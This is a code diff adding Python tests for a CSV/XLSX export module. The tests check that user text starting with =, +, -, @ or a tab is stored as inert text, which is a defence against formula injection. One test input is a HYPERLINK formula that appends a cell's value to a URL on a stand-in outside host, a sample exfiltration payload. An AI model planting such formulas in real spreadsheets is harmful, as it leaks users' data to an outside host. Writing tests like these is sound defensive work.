@@ -70,3 +70,30 @@ def test_export_response_sets_type_and_rejects_unknown_format():
     assert xlsx.content[:2] == b"PK"
     with pytest.raises(ValueError):
         export_response(ROWS, COLUMNS, fmt="pdf", basename="x")
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tTab"]
+
+
+def _rows_with_formulas():
+    return [{"code": text, "n": -5} for text in FORMULAS] + [{"code": "QT-HT-01 = bình thường", "n": 3}]
+
+
+def test_csv_writes_formula_like_text_as_text():
+    """User text starting with = + - @ (or a tab) is prefixed so a spreadsheet shows it, never runs it;
+    numbers, even negative, stay numbers and other text is unchanged."""
+    columns = [Column("Mã", "code"), Column("Số", "n")]
+    rows = list(csv.reader(io.StringIO(to_csv(_rows_with_formulas(), columns).decode("utf-8-sig"))))
+    assert [row[0] for row in rows[1:]] == ["'" + text for text in FORMULAS] + ["QT-HT-01 = bình thường"]
+    assert rows[1][1] == "-5"
+
+
+def test_xlsx_stores_formula_like_text_as_strings_not_formulas():
+    from openpyxl import load_workbook
+
+    columns = [Column("Mã", "code"), Column("Số", "n")]
+    sheet = load_workbook(io.BytesIO(to_xlsx(_rows_with_formulas(), columns))).active
+    cells = [sheet.cell(row=index, column=1) for index in range(2, 2 + len(FORMULAS))]
+    assert [cell.value for cell in cells] == FORMULAS  # exactly what was typed
+    assert {cell.data_type for cell in cells} == {"s"}  # text, not "f" (a formula)
+    assert sheet.cell(row=2, column=2).value == -5 and sheet.cell(row=2, column=2).data_type == "n"
